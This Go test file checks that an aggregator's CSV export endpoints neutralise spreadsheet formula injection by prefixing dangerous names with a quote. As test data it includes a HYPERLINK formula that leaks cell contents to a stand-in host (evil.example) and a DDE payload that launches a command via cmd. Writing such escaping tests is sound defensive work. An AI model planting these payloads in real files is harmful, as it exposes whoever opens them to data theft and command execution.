package aggregator

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ganlink/ganlink/internal/testsrv"
)

// TestCSVFormulaInjection registers names a spreadsheet would run as formulas (a
// region, a park, an enterprise, workshops) and reads every CSV endpoint from the
// aggregator over VictoriaMetrics: each such name arrives with a leading single quote,
// numbers (negative margins and intensity changes) arrive unprefixed, and JSON carries
// the names unchanged.
func TestCSVFormulaInjection(t *testing.T) {
	dir := t.TempDir()
	writeProvince(t, dir)
	const (
		region     = `-2+3`
		park       = `+HYPERLINK("http://evil.example/?leak="&A1,"Click")`
		enterprise = `=cmd|' /C calc'!A0`
		shop       = `@SUM(1+1)`
	)
	edit := func(name string, pairs ...string) {
		p := filepath.Join(dir, name)
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		s := string(b)
		for i := 0; i < len(pairs); i += 2 {
			if !strings.Contains(s, pairs[i]) {
				t.Fatalf("%s: no %q", name, pairs[i])
			}
			s = strings.Replace(s, pairs[i], pairs[i+1], 1)
		}
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	edit("registry.yaml", "name: 南昌市", `name: "`+region+`"`,
		"name: 南昌智能制造基地", `name: '`+park+`'`)
	edit("enterprises.csv", "企业E1,", enterprise+",")
	// The registry trims surrounding white space: names starting with a tab or a
	// carriage return cannot reach a cell (the writer would neutralise them too).
	edit("workshops.csv", "车间E1-1,", shop+",", "车间E1-2,", "\"\tX\",", "车间E1-3,", "\"\rY\",")
	vm := testsrv.StartVictoria(t)
	post(t, vm.URL+"/api/v2/write?bucket=ganlink", provinceLines())
	vm.Flush()
	_, c, _ := startApp(t, dir, fmt.Sprintf("backend: {type: promql, url: %q}\n", vm.URL))

	// cells returns the named columns of the rows whose key column has the given value.
	cells := func(path, keyCol, key string, cols ...string) []string {
		t.Helper()
		code, _, body := c.get("tok-province", path)
		if code != 200 {
			t.Fatalf("%s: %d %s", path, code, body)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\xEF\xBB\xBF")))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		idx := map[string]int{}
		for i, n := range recs[0] {
			idx[n] = i
		}
		for _, r := range recs[1:] {
			if r[idx[keyCol]] == key {
				var out []string
				for _, col := range cols {
					i, ok := idx[col]
					if !ok {
						t.Fatalf("%s: no column %q", path, col)
					}
					out = append(out, r[i])
				}
				return out
			}
		}
		t.Fatalf("%s: no row with %s=%s", path, keyCol, key)
		return nil
	}
	check := func(what string, got []string, want ...string) {
		t.Helper()
		if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Errorf("%s:\n%q\nwant\n%q", what, got, want)
		}
	}
	q := func(s string) string { return "'" + s }
	check("workshops", cells("/api/v1/workshops?format=csv&"+period, "workshop", "E1-w01", "name", "criteria.cnc_rate.margin"),
		q(shop), "0.1")
	check("workshops tab", cells("/api/v1/workshops?format=csv&"+period, "workshop", "E1-w02", "name"), "X")
	check("workshops CR", cells("/api/v1/workshops?format=csv&"+period, "workshop", "E1-w03", "name"), "Y")
	check("unqualified workshop", cells("/api/v1/workshops?format=csv&"+period, "workshop", "E1-w06", "name", "criteria.data_coverage.margin"),
		"车间E1-6", "-0.9")
	check("enterprises", cells("/api/v1/kpi/enterprises?format=csv&"+period, "enterprise", uscc("E1"), "name"), q(enterprise))
	check("parks", cells("/api/v1/kpi/parks?format=csv&"+period, "park", "nc-base", "name"), q(park))
	check("regions", cells("/api/v1/kpi/regions?format=csv&"+period, "region", "360100", "name", "water_intensity_change"),
		q(region), "-0.84375")
	check("region list", cells("/api/v1/regions?format=csv", "region", "360100", "name"), q(region))
	check("programme", cells("/api/v1/programme?format=csv&"+period, "region", "360100", "name"), q(region))

	m := c.json("tok-province", "/api/v1/kpi/parks?park=nc-base&"+period)
	if got := m["rows"].([]any)[0].(map[string]any)["name"]; got != park {
		t.Errorf("json park name %q, want %q", got, park)
	}
}
